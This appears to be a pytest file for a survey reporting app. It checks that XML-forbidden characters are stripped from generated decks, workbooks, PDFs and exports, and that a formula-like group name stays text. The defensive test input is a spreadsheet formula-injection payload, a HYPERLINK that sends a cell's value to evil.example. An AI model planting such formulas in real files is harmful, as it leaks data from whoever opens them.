"""Characters XML 1.0 forbids, typed by respondents and consultants (or stored before names were cleaned),
never break a document: the deck, the workbook, the PDF and the exports are served, opened by their readers,
and hold the text without those characters. A group named like a formula stays text in the deck's chart."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
from openpyxl import load_workbook
from pptx import Presentation
from pypdf import PdfReader

from survey.extensions import db
from survey.store.models import Consultant, Engagement
from tests.web.consultant import all_answers, create_engagement, login, make_consultant, seed_responses

# Every character XML 1.0 forbids that a database stores (PostgreSQL refuses NUL in text: added on SQLite;
# lone surrogates cannot be stored in UTF-8 at all: see tests/unit/test_plain_text.py).
STORABLE = "".join(chr(c) for c in [*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20)]) + "\ufffe\uffff"
FORMULA_GROUP = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


def forbidden(app) -> str:
    return STORABLE + ("\x00" if app.config["SQLALCHEMY_DATABASE_URI"].startswith("sqlite") else "")


def mixed(app, text: str) -> str:
    """The text with every forbidden character in its middle."""
    return f"{text[:3]}{forbidden(app)}{text[3:]}"


@pytest.fixture()
def hostile_round(app, browser, questionnaire):
    """Three responses in a group whose name, like the client's, the firm's and a comment, holds every
    forbidden character; a second group named like a formula."""
    make_consultant(app, "ada@example.com")
    login(browser, "ada@example.com")
    groups = [("Executive committee", "executive"), ("Legal", "staff"), ("Formula", "staff")]
    engagement_id = create_engagement(browser, "Globex", groups, language="en")
    for name in ("Executive committee", "Formula"):
        profile = "executive" if name == "Executive committee" else "staff"
        seed_responses(app, engagement_id, name, all_answers(questionnaire, profile, "best"), 3, comment=None)
    seed_responses(
        app, engagement_id, "Legal", all_answers(questionnaire, "staff", "worst"), 3, comment=mixed(app, "Le budget")
    )
    with app.app_context():  # as stored before this version, or through another door than the forms
        engagement = db.session.get(Engagement, engagement_id)
        engagement.client_name = mixed(app, "Globex")
        next(g for g in engagement.groups if g.name == "Legal").name = mixed(app, "Legal")
        next(g for g in engagement.groups if g.name == "Formula").name = FORMULA_GROUP
        db.session.query(Consultant).one().firm_name = mixed(app, "Conseil")
        db.session.commit()
    return engagement_id


def download(browser, engagement_id: int, name: str) -> bytes:
    response = browser.get(f"/engagements/{engagement_id}/rounds/1/{name}")
    assert response.status_code == 200, (name, response.get_data(as_text=True)[:300])
    return response.data


def assert_clean(text: str, *expected: str) -> None:
    assert not set(STORABLE + "\x00") & set(text)
    for one in expected:
        assert one in text, one


def test_the_deck(browser, hostile_round):
    deck = Presentation(io.BytesIO(download(browser, hostile_round, "report.pptx")))
    texts = []
    for slide in deck.slides:
        texts.append(slide.notes_slide.notes_text_frame.text if slide.has_notes_slide else "")
        for shape in slide.shapes:
            if shape.has_text_frame:
                texts.append(shape.text_frame.text)
            if shape.has_table:
                texts.extend(cell.text for row in shape.table.rows for cell in row.cells)
    assert_clean("\n".join(texts), "Globex", "Legal", "Le budget")


def test_the_chart_data_of_the_deck_is_text_never_a_formula(browser, hostile_round):
    deck = Presentation(io.BytesIO(download(browser, hostile_round, "report.pptx")))
    chart = next(shape.chart for slide in deck.slides for shape in slide.shapes if shape.has_chart)
    assert FORMULA_GROUP in [series.name for series in chart.plots[0].series]
    embedded = chart.part.chart_workbook.xlsx_part.blob
    with zipfile.ZipFile(io.BytesIO(embedded)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no cell is a formula
    book = load_workbook(io.BytesIO(embedded))
    values = [cell.value for row in book.active.iter_rows() for cell in row]
    assert FORMULA_GROUP in values
    assert_clean(" ".join(str(v) for v in values), "Legal")


def test_the_workbook(browser, hostile_round):
    book = load_workbook(io.BytesIO(download(browser, hostile_round, "report.xlsx")))
    values = [str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    properties = [book.properties.title or "", book.properties.creator or ""]
    assert_clean("\n".join([*values, *properties]), "Globex", "Conseil", "Le budget")
    assert FORMULA_GROUP in values


def test_the_pdf(browser, hostile_round):
    reader = PdfReader(io.BytesIO(download(browser, hostile_round, "report.pdf")))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Globex" in text and "Le budget" in text


def test_the_exports(browser, hostile_round):
    for name in ("responses.csv", "responses-labels.csv"):
        assert_clean(download(browser, hostile_round, name).decode("utf-8-sig"), "Legal")
    exported = json.loads(download(browser, hostile_round, "responses.json"))
    assert_clean(json.dumps(exported, ensure_ascii=False), "Legal")
